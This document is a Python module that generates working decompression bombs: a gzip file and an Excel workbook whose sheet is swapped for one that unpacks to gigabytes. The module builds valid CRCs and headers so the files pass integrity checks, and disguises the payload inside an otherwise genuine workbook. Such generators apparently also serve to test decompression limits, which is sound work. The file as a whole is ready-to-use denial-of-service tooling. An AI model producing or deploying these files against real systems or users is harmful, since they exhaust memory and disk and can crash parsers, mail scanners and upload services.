"""Decompression bombs, made for real: small files that unpack to gigabytes.

Each is a valid file of its kind (a gzip member with the right CRC and size, a zip
whose directory states the true sizes), so a reader that trusted it would really
unpack it all. They are built without ever holding the unpacked bytes: deflate's
full flush ends a compressed block that refers to nothing before it, so copies of
that block unpack to copies of its data.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path
from typing import Final

UNIT: Final = 1 << 20  # one compressed block unpacks to at most 1 MiB


def deflate_stream(
    prefix: bytes, filler: bytes, gigabytes: float, suffix: bytes
) -> tuple[bytes, int, int]:
    """A raw deflate stream of ``prefix``, about ``gigabytes`` GB of ``filler`` repeated
    (whole copies), then ``suffix``: (stream, crc32, unpacked size)."""
    unit = filler * max(UNIT // len(filler), 1)
    copies = max(int(gigabytes * 1e9) // len(unit), 1)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    # The CRC of the copies by doubling (zlib's crc32_combine), not by reading them all.
    crc, repeated, done, left = zlib.crc32(prefix), zlib.crc32(unit), len(unit), copies
    while left:
        if left & 1:
            crc = crc32_combine(crc, repeated, done)
        repeated = crc32_combine(repeated, repeated, done)
        done, left = done * 2, left >> 1
    crc = zlib.crc32(suffix, crc)
    stream = _stored(prefix) + block * copies + _stored(suffix, final=True)
    return stream, crc, len(prefix) + len(unit) * copies + len(suffix)


def crc32_combine(first: int, second: int, second_length: int) -> int:
    """crc32(a + b) from crc32(a), crc32(b) and len(b), as zlib's crc32_combine."""

    def times(matrix: list[int], vector: int) -> int:
        total, row = 0, 0
        while vector:
            if vector & 1:
                total ^= matrix[row]
            vector >>= 1
            row += 1
        return total

    def square(matrix: list[int]) -> list[int]:
        return [times(matrix, matrix[n]) for n in range(32)]

    if second_length <= 0:
        return first
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = square(odd)  # two zero bits
    odd = square(even)  # four
    while True:
        even = square(odd)
        if second_length & 1:
            first = times(even, first)
        second_length >>= 1
        if not second_length:
            break
        odd = square(even)
        if second_length & 1:
            first = times(odd, first)
        second_length >>= 1
        if not second_length:
            break
    return first ^ second


def _stored(data: bytes, *, final: bool = False) -> bytes:
    """``data`` as stored (uncompressed) deflate blocks, starting byte-aligned."""
    out = b""
    pieces = [data[i : i + 65535] for i in range(0, len(data), 65535)] or [b""]
    for number, piece in enumerate(pieces):
        last = final and number == len(pieces) - 1
        out += bytes([1 if last else 0]) + struct.pack("<HH", len(piece), len(piece) ^ 0xFFFF)
        out += piece
    return out


def gzip_bomb(
    path: Path, *, head: bytes, filler: bytes, gigabytes: float, tail: bytes = b""
) -> Path:
    """A gzip file of ``head``, ``filler`` repeated to about ``gigabytes`` GB, ``tail``."""
    stream, crc, size = deflate_stream(head, filler, gigabytes, tail)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    path.write_bytes(header + stream + struct.pack("<II", crc, size & 0xFFFFFFFF))
    return path


def xlsx_bomb(path: Path, workbook: Path, *, gigabytes: float) -> Path:
    """The workbook at ``workbook`` with its first sheet replaced by one that unpacks
    to about ``gigabytes`` GB of rows (below 4 GB: no zip64 here)."""
    sheet = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(workbook) as source:
        parts = [(info.filename, source.read(info)) for info in source.infolist()]
    start = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet '
        b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    row = b'<row><c t="inlineStr"><is><t>Z1</t></is></c></row>'
    bomb = deflate_stream(start, row, gigabytes, b"</sheetData></worksheet>")
    central = b""
    with path.open("wb") as handle:
        for name, data in parts:
            packed, crc, size = (
                bomb
                if name == sheet
                else (zlib.compress(data, 9)[2:-4], zlib.crc32(data), len(data))
            )
            offset = handle.tell()
            handle.write(
                struct.pack(
                    "<IHHHHHIIIHH",
                    0x04034B50,
                    20,
                    0,
                    8,
                    0,
                    0,
                    crc,
                    len(packed),
                    size,
                    len(name),
                    0,
                )
            )
            handle.write(name.encode() + packed)
            central += struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(packed),
                size, len(name), 0, 0, 0, 0, 0, offset,
            ) + name.encode()  # fmt: skip
        where = handle.tell()
        handle.write(central)
        handle.write(
            struct.pack(
                "<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(central), where, 0
            )
        )
    return path
